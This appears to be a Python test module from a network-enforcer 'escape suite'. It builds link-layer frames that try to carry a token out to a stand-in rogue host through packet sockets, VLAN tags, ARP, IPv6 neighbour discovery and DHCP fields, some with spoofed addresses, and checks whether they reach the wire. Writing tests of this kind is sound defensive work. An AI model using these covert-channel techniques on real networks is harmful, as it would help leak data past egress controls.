# SPDX-License-Identifier: GPL-3.0-or-later
"""Ways of the escape suite that use the link itself: packet sockets that send
or listen, and the few protocols that a host cannot live without (ARP,
neighbour discovery, DHCP) used to carry data."""
import contextlib
import mmap
import socket
import struct

import escape_frames as F
from enforcer_rig import COLLECTOR, HOST4, HOST6, OTHER, PEER4, PEER6, UID_NETWORK
from escape_paths import simple, udp_inside
from escape_rig import ROGUE4, ROGUE6, WINDOW, add_way, way

ALL = socket.htons(3)


def out(line, packet, dst="rogue"):
    return F.of_ip(line.macs[dst], line.macs["host"], packet)


# -- packet sockets that send ------------------------------------------------------------

def llc(line, t):
    return (b"\x01\x80\xc2\0\0\0" + line.macs["host"] + struct.pack("!H", 40) + b"\x42\x42\3" + t).ljust(60, b"\0")


FRAMES = {
    "udp-4": ("UDP, IPv4", lambda l, t: out(l, F.ip4(HOST4, ROGUE4, 17, F.udp(HOST4, ROGUE4, 4000, 4000, t)))),
    "udp-6": ("UDP, IPv6", lambda l, t: out(l, F.ip6(HOST6, ROGUE6, 17, F.udp(HOST6, ROGUE6, 4000, 4000, t)))),
    "tcp-4": ("TCP to another port of the collector",
              lambda l, t: out(l, F.ip4(HOST4, PEER4, 6, F.tcp(HOST4, PEER4, 4000, OTHER, t)), "peer")),
    "line-4": ("TCP to the collector's own port, by another program, IPv4",
               lambda l, t: out(l, F.ip4(HOST4, PEER4, 6, F.tcp(HOST4, PEER4, 4000, COLLECTOR, t)), "peer")),
    "line-6": ("TCP to the collector's own port, by another program, IPv6",
               lambda l, t: out(l, F.ip6(HOST6, PEER6, 6, F.tcp(HOST6, PEER6, 4000, COLLECTOR, t)), "peer")),
    "vlan": ("a VLAN tag", lambda l, t: F.tagged(
        out(l, F.ip4(HOST4, ROGUE4, 17, F.udp(HOST4, ROGUE4, 4000, 4000, t))))),
    "vlan-line": ("the collector's line under a VLAN tag", lambda l, t: F.tagged(
        out(l, F.ip4(HOST4, PEER4, 6, F.tcp(HOST4, PEER4, 4000, COLLECTOR, t)), "peer"))),
    "qinq": ("two VLAN tags", lambda l, t: F.tagged(F.tagged(
        out(l, F.ip4(HOST4, ROGUE4, 17, F.udp(HOST4, ROGUE4, 4000, 4000, t))))), ),
    "ethertype": ("an EtherType that nobody uses", lambda l, t: F.ether(l.macs["rogue"], l.macs["host"], 0x88b5, t)),
    "lldp": ("LLDP", lambda l, t: F.ether(b"\x01\x80\xc2\0\0\x0e", l.macs["host"], 0x88cc, t)),
    "eapol": ("EAPOL", lambda l, t: F.ether(b"\x01\x80\xc2\0\0\x03", l.macs["host"], 0x888e, t)),
    "llc": ("802.3 with LLC", llc),
    "wol": ("wake on LAN", lambda l, t: F.ether(F.EVERYONE, l.macs["host"], 0x0842, t)),
    "mpls": ("MPLS", lambda l, t: F.ether(l.macs["rogue"], l.macs["host"], 0x8847, b"\0\0\x11\x40" + t)),
    "pppoe": ("PPPoE", lambda l, t: F.ether(F.EVERYONE, l.macs["host"], 0x8863, b"\x11\x09\0\0\0\x20" + t)),
    "rarp": ("RARP", lambda l, t: F.ether(F.EVERYONE, l.macs["host"], 0x8035, b"\0" * 28 + t)),
}


def packet_way(key, words, make, bypass, uid):
    name = "packet-%s%s%s" % (key, "-bypass" if bypass else "", "-user" if uid else "")
    more = (", past the queue" if bypass else "") + (", as the network process's user" if uid else "")

    def attempt(line):
        t = line.token()
        return line.frame_out(make(line, t), t, bypass=bypass, uid=uid)
    simple(name, "packet", "packet socket: " + words + more, attempt)


for key, (words, make) in FRAMES.items():
    for bypass in (False, True):
        packet_way(key, words, make, bypass, 0)
for key in ("udp-4", "udp-6", "tcp-4", "vlan-line", "ethertype"):
    packet_way(key, *FRAMES[key], False, UID_NETWORK)


def line_frame(line, t, dst="peer", src=None, sender=HOST4, dport=COLLECTOR, tail=b"", **kw):
    p = F.ip4(sender, PEER4, 6, F.tcp(sender, PEER4, 40000, dport, t), **kw)
    return F.of_ip(line.macs[dst], src or line.macs["host"], p + tail)


for name, words, kw in (
        ("stolen-name-mac", "the collector's line, but to another machine's link address", {"dst": "rogue"}),
        ("stolen-name-everyone", "the collector's line, but to the broadcast link address", {"dst": None}),
        ("stolen-name-source", "the collector's line, from an address that is not ours", {"sender": "10.9.0.77"}),
        ("stolen-name-srcmac", "the collector's line, from a link address that is not ours", {"src": b"\2ABCDE"}),
        ("stolen-name-fragment", "the collector's line, in fragments", {"fragment": 0x2000}),
        ("stolen-name-options", "the collector's line, with IP options", {"options": b"\1\1\1\1"}),
        ("stolen-name-tail", "the collector's line, with data behind the packet's end", {"tail": b"hidden" * 20}),
        ("stolen-name-tail-bypass", "the same, past the queue", {"tail": b"hidden" * 20})):
    def stolen(line, kw=kw, name=name):
        t = line.token()
        line.macs[None] = F.EVERYONE
        mark = (lambda f: t in f and b"hidden" * 20 in f) if "tail" in name else t
        return line.frame_out(line_frame(line, t, **kw), mark, uid=UID_NETWORK, bypass="bypass" in name)
    simple(name, "packet", "packet socket of the network process's user: " + words, stolen)


def dgram(packet, proto):
    def attempt(line):
        t = line.token()
        s = line.packet(kind=socket.SOCK_DGRAM, uid=0)
        for _ in range(3):
            with contextlib.suppress(OSError):
                s.sendto(packet(line, t), ("v0", proto, 0, 1, line.macs["rogue"]))
        return line.wire.count(t)
    return attempt


def udp_packet(line, t):
    return F.ip4(HOST4, ROGUE4, 17, F.udp(HOST4, ROGUE4, 4000, 4000, t))


simple("dgram-udp", "packet", "cooked packet socket: UDP", dgram(udp_packet, F.IP4))
simple("dgram-lie-arp", "packet", "cooked packet socket: UDP called ARP", dgram(udp_packet, F.ARP))
simple("dgram-lie-ip6", "packet", "cooked packet socket: UDP called IPv6", dgram(udp_packet, F.IP6))
simple("dgram-arp-data", "packet", "cooked packet socket: data called ARP",
       dgram(lambda l, t: b"\0\1\x08\0\6\4\0\1" + t.ljust(20, b"x"), F.ARP))


@way("packet-lie", "packet", "packet socket that says ARP and sends UDP")
def _(line):
    yield
    t = line.token()
    s = line.packet()
    for _ in range(3):
        with contextlib.suppress(OSError):
            s.sendto(out(line, udp_packet(line, t)), ("v0", F.ARP, 0, 1, b"\0" * 6))
    return line.wire.count(t)


def ring(line, bypass):
    """PACKET_TX_RING: frames handed over in shared memory."""
    t = line.token()
    f = out(line, udp_packet(line, t))
    s = line.packet(bypass=bypass)
    s.setsockopt(263, 10, 1)  # PACKET_VERSION, TPACKET_V2
    s.setsockopt(263, 13, struct.pack("IIII", 4096, 1, 2048, 2))  # PACKET_TX_RING
    m = mmap.mmap(s.fileno(), 4096)
    try:
        for at in (0, 2048):
            m[at + 32:at + 32 + len(f)] = f
            struct.pack_into("II", m, at, 1, len(f))  # TP_STATUS_SEND_REQUEST
        with contextlib.suppress(OSError):
            s.send(b"")
        return line.wire.count(t)
    finally:
        m.close()


simple("packet-ring", "packet", "packet socket with a ring in shared memory", lambda l: ring(l, False))
simple("packet-ring-bypass", "packet", "the same, past the queue", lambda l: ring(l, True))


# -- packet sockets that listen ------------------------------------------------------------

def sniff(name, words, frame, proto=ALL, promiscuous=False, side="rogue"):
    def fn(line):
        s = line.packet(proto=socket.ntohs(proto))
        if promiscuous:
            index = line.here(lambda: socket.if_nametoindex("v0"))
            s.setsockopt(263, 1, struct.pack("iHH8s", index, 1, 0, b""))  # PACKET_MR_PROMISC
        yield
        t = line.token()
        line.inject([frame(line, t)] * 2, side)
        return line.received(s, t)
    add_way(name, "listen", words, fn)


def inbound(line, t, dst=None):
    return F.of_ip(dst or line.macs["host"], line.macs["rogue"],
                   F.ip4(ROGUE4, HOST4, 17, F.udp(ROGUE4, HOST4, 4000, 4000, t)))


sniff("listen-all", "packet socket for all protocols", inbound)
sniff("listen-ip", "packet socket for IPv4", inbound, socket.htons(F.IP4))
sniff("listen-ethertype", "packet socket for an EtherType that nobody uses",
      lambda l, t: F.ether(l.macs["host"], l.macs["rogue"], 0x88b5, t), socket.htons(0x88b5))
sniff("listen-promiscuous", "packet socket that reads what is meant for others",
      lambda l, t: inbound(l, t, F.EVERYONE[:1] + b"\3\3\3\3\3"), promiscuous=True)
sniff("listen-arp", "packet socket for ARP, data behind a request", lambda l, t: arp_frame(
    l, F.arp(1, l.macs["rogue"], ROGUE4, b"\0" * 6, HOST4) + t, l.macs["rogue"]), socket.htons(F.ARP))
sniff("listen-line", "packet socket for IPv4, a segment in the collector's name from another machine",
      lambda l, t: F.of_ip(l.macs["host"], l.macs["rogue"], F.ip4(PEER4, HOST4, 6, F.tcp(
          PEER4, HOST4, COLLECTOR, 40000, t, F.ACK))), socket.htons(F.IP4))


# -- ARP ---------------------------------------------------------------------------------

def arp_frame(line, body, src=None, dst=F.EVERYONE, pad=True):
    f = dst + (src or line.macs["host"]) + b"\x08\x06" + body
    return f.ljust(60, b"\0") if pad else f


def arp_way(name, words, make, target=None):
    """MAKE(line, token) is the ARP body; TARGET(line) the link destination."""
    def attempt(line):
        t = line.token()
        body, mark = make(line, t)
        return line.frame_out(arp_frame(line, body, dst=target(line) if target else F.EVERYONE), mark, times=12)
    simple(name, "arp", words, attempt)


def four(t):
    return b"\x0a\x09" + t[-2:]


ZERO = b"\0" * 6
arp_way("arp-other-target", "ARP requests for addresses that spell data", lambda l, t: (
    F.arp(1, l.macs["host"], HOST4, ZERO, t[-4:]), t[-4:]))
arp_way("arp-near-target", "the same within the own subnet", lambda l, t: (
    F.arp(1, l.macs["host"], HOST4, ZERO, b"\x0a\x09\0" + t[-1:]), b"\x0a\x09\0" + t[-1:]))
arp_way("arp-sender-mac", "data in the sender's link address", lambda l, t: (
    F.arp(1, t[-6:], HOST4, ZERO, PEER4), t[-6:]))
arp_way("arp-sender-ip", "data in the sender's address", lambda l, t: (
    F.arp(1, l.macs["host"], t[-4:], ZERO, PEER4), t[-4:]))
arp_way("arp-target-mac", "data in a request's target link address", lambda l, t: (
    F.arp(1, l.macs["host"], HOST4, t[-6:], PEER4), t[-6:]))
arp_way("arp-tail", "data behind an ARP request", lambda l, t: (
    F.arp(1, l.macs["host"], HOST4, ZERO, PEER4) + t, t))
arp_way("arp-reply-other", "an ARP reply nobody asked for, data in it", lambda l, t: (
    F.arp(2, l.macs["host"], t[-4:], l.macs["rogue"], ROGUE4), t[-4:]), lambda l: l.macs["rogue"])
arp_way("arp-reply-target", "an ARP reply with data in its target", lambda l, t: (
    F.arp(2, l.macs["host"], HOST4, t[-6:], ROGUE4), t[-6:]), lambda l: l.macs["rogue"])
arp_way("arp-reply-tail", "data behind an ARP reply", lambda l, t: (
    F.arp(2, l.macs["host"], HOST4, l.macs["peer"], PEER4) + t, t), lambda l: l.macs["peer"])
arp_way("arp-gratuitous", "announcing another's address", lambda l, t: (
    F.arp(1, l.macs["host"], four(t), ZERO, four(t)), four(t)))
arp_way("arp-opcode", "an ARP operation that nobody uses", lambda l, t: (
    F.arp(25, l.macs["host"], HOST4, ZERO, PEER4) + t, t))
arp_way("arp-ethernet-type", "ARP for another hardware", lambda l, t: (
    b"\0\6" + F.arp(1, l.macs["host"], HOST4, ZERO, PEER4)[2:] + t, t))


# -- neighbour discovery ---------------------------------------------------------------------

def nd_way(name, words, make, dst=None, hops=255, src=HOST6):
    """MAKE(line, token): (type, body).  By a packet socket."""
    def attempt(line):
        t = line.token()
        kind, body = make(line, t)
        to = dst or solicited(PEER6)
        p = F.ip6(src, to, 58, F.icmp6(src, to, kind, body), hops)
        mac = b"\x33\x33" + F.packed(to)[-4:] if to.startswith("ff") else line.macs["rogue"]
        return line.frame_out(F.of_ip(mac, line.macs["host"], p), t[-6:], times=6)
    simple(name, "nd", words, attempt)


def solicited(address):
    return "ff02::1:ff%02x:%02x%02x" % tuple(F.packed(address)[-3:])


def slla(mac, kind=1):
    return struct.pack("BB", kind, 1) + mac


nd_way("ns-target", "solicitations for addresses that spell data", lambda l, t: (
    135, b"\0" * 4 + F.packed("fd09::")[:10] + t[-6:] + slla(l.macs["host"])))
nd_way("ns-option", "data in a solicitation's link address", lambda l, t: (
    135, b"\0" * 4 + F.packed(PEER6) + slla(t[-6:])))
nd_way("ns-unknown-option", "data in an option of a solicitation", lambda l, t: (
    135, b"\0" * 4 + F.packed(PEER6) + slla(l.macs["host"]) + b"\xfd\x02" + t.ljust(14, b"\0")))
nd_way("ns-tail", "data behind a solicitation", lambda l, t: (
    135, b"\0" * 4 + F.packed(PEER6) + slla(l.macs["host"]) + b"\0" * 8 + t))
nd_way("ns-reserved", "data in the reserved field of a solicitation", lambda l, t: (
    135, t[-6:-2] + t[-2:] + F.packed(PEER6)[2:] + slla(l.macs["host"])))
nd_way("na-unasked", "an advertisement nobody asked for, data in it", lambda l, t: (
    136, b"\x20\0\0\0" + F.packed("fd09::")[:10] + t[-6:] + slla(l.macs["host"], 2)), dst="ff02::1")
nd_way("na-option", "data in an advertisement's link address", lambda l, t: (
    136, b"\x60\0\0\0" + F.packed(HOST6) + slla(t[-6:], 2)), dst=ROGUE6)
nd_way("rs-data", "data behind a router solicitation", lambda l, t: (133, b"\0" * 4 + slla(t[-6:])), dst="ff02::2")
nd_way("ra-out", "a router advertisement of our own, data in it", lambda l, t: (
    134, b"\x40\0\0\x1e" + b"\0" * 8 + slla(t[-6:])), dst="ff02::1")
nd_way("ns-hops", "a solicitation that was routed, data in it", lambda l, t: (
    135, b"\0" * 4 + F.packed(PEER6) + slla(t[-6:])), hops=64)
nd_way("ns-spoofed", "a solicitation from an address that is not ours", lambda l, t: (
    135, b"\0" * 4 + F.packed(PEER6) + slla(t[-6:])), src="fd09::77")


def nd_in(name, words, make):
    def fn(line):
        s = line.sock(socket.AF_INET6, socket.SOCK_RAW, 58)
        yield
        t = line.token()
        kind, body = make(line, t)
        p = F.ip6("fe80::77", HOST6, 58, F.icmp6("fe80::77", HOST6, kind, body), 255)
        line.inject([F.of_ip(line.macs["host"], line.macs["rogue"], p)] * 2, "rogue")
        return line.received(s, t)
    add_way(name, "nd", words, fn)


nd_in("ns-in", "data in an option of a solicitation from outside, read by a raw socket", lambda l, t: (
    135, b"\0" * 4 + F.packed(HOST6) + slla(l.macs["rogue"]) + b"\xfd\x02" + t.ljust(14, b"\0")))
nd_in("na-in", "data in an option of an advertisement from outside", lambda l, t: (
    136, b"\x60\0\0\0" + F.packed(PEER6) + slla(l.macs["rogue"], 2) + b"\xfd\x02" + t.ljust(14, b"\0")))
nd_in("ra-in", "data in an option of a router advertisement from outside", lambda l, t: (
    134, b"\x40\0\0\0" + b"\0" * 8 + b"\xfd\x02" + t.ljust(14, b"\0")))
nd_in("redirect-in", "data in an ICMPv6 redirect from outside", lambda l, t: (
    137, b"\0" * 4 + F.packed(PEER6) + F.packed(PEER6) + b"\xfd\x02" + t.ljust(14, b"\0")))


# -- DHCP --------------------------------------------------------------------------------------

def bootp(mac, tail, op=1):
    return struct.pack("!BBBBIHH", op, 1, 6, 0, 7, 0, 0) + b"\0" * 16 + mac + b"\0" * 202 + \
        b"\x63\x82\x53\x63\x35\x01\x01" + tail


def dhcp_way(name, words, make, src="0.0.0.0", dst="255.255.255.255", mac=F.EVERYONE, ports=(68, 67)):
    def attempt(line):
        t = line.token()
        f = F.of_ip(mac or line.macs["rogue"], line.macs["host"],
                    F.ip(src, dst, 17, F.udp(src, dst, *ports, make(line, t))))
        return line.frame_out(f, t, times=6)
    simple(name, "dhcp", words, attempt)


dhcp_way("dhcp-data", "data on DHCP's ports to everyone", lambda l, t: t * 5)
dhcp_way("dhcp-option", "data in an option of a DHCP request", lambda l, t: bootp(
    l.macs["host"], b"\xfd" + bytes([len(t)]) + t + b"\xff"))
dhcp_way("dhcp-file", "data in the file name of a DHCP request", lambda l, t: bootp(
    l.macs["host"], b"\xff").replace(b"\0" * 128, t.ljust(128, b"\0"), 1))
dhcp_way("dhcp-mac", "DHCP to everyone's address at one machine's link address", lambda l, t: t * 5, mac=None)
dhcp_way("dhcp-server", "DHCP to another server", lambda l, t: t * 5, HOST4, ROGUE4, None)
dhcp_way("dhcp-relay", "DHCP between servers' ports", lambda l, t: t * 5, HOST4, ROGUE4, None, (67, 67))
dhcp_way("dhcp-6", "data on DHCPv6's ports to all servers", lambda l, t: t * 5, "fe80::1", "ff02::1:2",
         b"\x33\x33\0\1\0\2", (546, 547))
dhcp_way("dhcp-6-server", "DHCPv6 to another server", lambda l, t: t * 5, HOST6, ROGUE6, None, (546, 547))
simple("dhcp-socket", "dhcp", "an ordinary socket on DHCP's ports to everyone",
       lambda l: l.datagram("255.255.255.255", 67, sport=68, device="v0"))
simple("dhcp-socket-server", "dhcp", "an ordinary socket on DHCP's ports to another server",
       lambda l: l.datagram(ROGUE4, 67, sport=68))


def dhcp_in(name, words, v6, make):
    def fn(line):
        s = udp_inside(546 if v6 else 68, v6)(line)
        yield
        t = line.token()
        line.inject([make(line, t)] * 2, "rogue")
        return line.received(s, t, WINDOW)
    add_way(name, "dhcp", words, fn)


dhcp_in("dhcp-in", "data on DHCP's ports from another machine", False, lambda l, t: F.of_ip(
    l.macs["host"], l.macs["rogue"], F.ip4(ROGUE4, HOST4, 17, F.udp(ROGUE4, HOST4, 67, 68, t * 3))))
dhcp_in("dhcp-in-6", "data on DHCPv6's ports from another machine", True, lambda l, t: F.of_ip(
    l.macs["host"], l.macs["rogue"], F.ip6(ROGUE6, HOST6, 17, F.udp(ROGUE6, HOST6, 547, 546, t * 3))))
